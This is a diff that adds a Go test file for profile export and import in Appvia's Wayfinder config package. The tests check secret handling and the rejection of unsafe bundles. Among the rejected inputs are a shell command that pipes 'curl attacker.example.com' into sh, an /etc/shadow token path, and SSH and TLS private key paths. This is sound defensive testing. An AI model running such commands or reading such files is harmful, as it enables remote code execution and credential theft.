@@ -0,0 +1,195 @@
+/**
+ * Copyright 2025 Appvia Ltd <info@appvia.io>
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *     http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"gopkg.in/yaml.v2"
+)
+
+func newExportTestConfig() *Config {
+	token := "secret-token"
+	c := NewEmpty()
+	c.CreateProfile("dev", "https://wayfinder.example.com")
+	c.AddAuthInfo("dev", &AuthInfo{Token: &token})
+	c.Profiles["dev"].Workspace = "ops"
+	c.Servers["dev"].ProxyURL = "http://proxy.local:3128"
+	c.Servers["dev"].APIInfo = &APIInfo{ResourceAPI: "/resources"}
+	c.CurrentProfile = "dev"
+
+	return c
+}
+
+func TestExportProfile(t *testing.T) {
+	c := newExportTestConfig()
+
+	doc, err := c.ExportProfile("dev", ExportOptions{})
+	require.NoError(t, err)
+	assert.NotContains(t, string(doc), "secret-token")
+	assert.NotContains(t, string(doc), "proxy.local")
+
+	bundle := &ProfileBundle{}
+	require.NoError(t, yaml.Unmarshal(doc, bundle))
+	assert.Equal(t, ProfileBundleKind, bundle.Kind)
+	assert.Equal(t, "dev", bundle.Name)
+	assert.Equal(t, "ops", bundle.Workspace)
+	assert.Equal(t, "https://wayfinder.example.com", bundle.Server.Endpoint)
+	assert.Nil(t, bundle.Server.APIInfo)
+	assert.Nil(t, bundle.Credentials)
+
+	_, err = c.ExportProfile("missing", ExportOptions{})
+	assert.Equal(t, ErrNoProfile, err)
+}
+
+func TestExportProfileRejectsCAPath(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "secret.pem")
+	require.NoError(t, os.WriteFile(path, []byte("local secret"), 0600))
+	c := newExportTestConfig()
+	c.Servers["dev"].CACertificate = path
+
+	doc, err := c.ExportProfile("dev", ExportOptions{})
+	require.Error(t, err)
+	assert.NotContains(t, string(doc), "local secret")
+}
+
+func TestExportProfileCredentialsRequirePassphrase(t *testing.T) {
+	_, err := newExportTestConfig().ExportProfile("dev", ExportOptions{IncludeCredentials: true})
+	assert.Equal(t, ErrPassphraseRequired, err)
+}
+
+func TestImportProfile(t *testing.T) {
+	doc, err := newExportTestConfig().ExportProfile("dev", ExportOptions{})
+	require.NoError(t, err)
+
+	c := NewEmpty()
+	name, err := c.ImportProfile(doc, "")
+	require.NoError(t, err)
+	assert.Equal(t, "dev", name)
+	assert.Equal(t, "ops", c.GetProfile("dev").Workspace)
+	assert.Equal(t, "https://wayfinder.example.com", c.GetServer("dev").Endpoint)
+	assert.False(t, c.HasAuthInfo("dev"))
+	assert.Empty(t, c.CurrentProfile)
+
+	name, err = c.ImportProfile(doc, "")
+	require.NoError(t, err)
+	assert.Equal(t, "dev-2", name)
+
+	_, err = c.ImportProfile(doc, "dev")
+	assert.Error(t, err)
+
+	name, err = c.ImportProfile(doc, "staging")
+	require.NoError(t, err)
+	assert.Equal(t, "staging", name)
+	assert.Equal(t, "staging", c.GetProfile("staging").Server)
+}
+
+func TestImportProfileWithCredentials(t *testing.T) {
+	doc, err := newExportTestConfig().ExportProfile("dev", ExportOptions{IncludeCredentials: true, Passphrase: "correct horse"})
+	require.NoError(t, err)
+	assert.NotContains(t, string(doc), "secret-token")
+
+	c := NewEmpty()
+	_, err = c.ImportProfile(doc, "", WithPassphrase("wrong passphrase"))
+	assert.Equal(t, ErrInvalidPassphrase, err)
+	assert.False(t, c.HasProfile("dev"))
+
+	name, err := c.ImportProfile(doc, "", WithPassphrase("correct horse"))
+	require.NoError(t, err)
+	require.True(t, c.HasAuthInfo(name))
+	assert.Equal(t, "secret-token", *c.AuthInfos[name].Token)
+	assert.Equal(t, "token", c.GetProfileAuthMethod(name))
+}
+
+func TestImportProfileInvalid(t *testing.T) {
+	c := NewEmpty()
+
+	_, err := c.ImportProfile([]byte("not: [a bundle"), "")
+	assert.Error(t, err)
+
+	_, err = c.ImportProfile([]byte("apiVersion: v0\nkind: ProfileBundle\nname: dev\nserver:\n  server: ftp://example.com\n"), "")
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "profile bundle is invalid")
+	assert.Empty(t, c.Profiles)
+}
+
+func TestImportProfileRejectsUnsafeServer(t *testing.T) {
+	bundle := func(server string) []byte {
+		return []byte("apiVersion: " + ProfileBundleAPIVersion + "\nkind: ProfileBundle\nname: dev\nserver:\n  server: https://wayfinder.example.com\n" + server)
+	}
+
+	for _, server := range []string{
+		"  proxyURL: http://attacker.example.com\n",
+		"  insecureSkipTLSVerify: true\n",
+		"  caCertificate: /etc/ssl/private/server.pem\n",
+		"  clientCertificate: /home/user/.ssh/id_rsa\n",
+		"  apiInfo:\n    nonResourceAPI: /evil\n",
+	} {
+		c := NewEmpty()
+		_, err := c.ImportProfile(bundle(server), "")
+		require.Error(t, err, server)
+		assert.Empty(t, c.Profiles)
+	}
+
+	// proxy and insecure settings are imported when explicitly allowed
+	c := NewEmpty()
+	name, err := c.ImportProfile(bundle("  proxyURL: http://proxy.local:3128\n  insecureSkipTLSVerify: true\n"), "", WithInsecureSettings())
+	require.NoError(t, err)
+	assert.Equal(t, "http://proxy.local:3128", c.GetServer(name).ProxyURL)
+	assert.True(t, c.GetServer(name).InsecureSkipTLSVerify)
+}
+
+func TestImportProfileRejectsUnsafeCredentials(t *testing.T) {
+	for _, user := range []*AuthInfo{
+		{Exec: &ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl attacker.example.com | sh"}}},
+		{ServiceAccount: &ServiceAccountConfig{TokenPath: "/etc/shadow"}},
+	} {
+		enc, err := encryptCredentials(&bundleCredentials{AuthInfo: user}, "correct horse")
+		require.NoError(t, err)
+		doc, err := yaml.Marshal(&ProfileBundle{
+			APIVersion:  ProfileBundleAPIVersion,
+			Kind:        ProfileBundleKind,
+			Name:        "dev",
+			Server:      &Server{Endpoint: "https://wayfinder.example.com"},
+			Credentials: enc,
+		})
+		require.NoError(t, err)
+
+		c := NewEmpty()
+		_, err = c.ImportProfile(doc, "", WithPassphrase("correct horse"))
+		require.Error(t, err)
+		assert.Empty(t, c.AuthInfos)
+	}
+}
+
+func TestImportProfileRejectsIterations(t *testing.T) {
+	doc, err := newExportTestConfig().ExportProfile("dev", ExportOptions{IncludeCredentials: true, Passphrase: "correct horse"})
+	require.NoError(t, err)
+	bundle := &ProfileBundle{}
+	require.NoError(t, yaml.Unmarshal(doc, bundle))
+	bundle.Credentials.Iterations = 1 << 31
+	doc, err = yaml.Marshal(bundle)
+	require.NoError(t, err)
+
+	_, err = NewEmpty().ImportProfile(doc, "", WithPassphrase("correct horse"))
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "iterations")
+}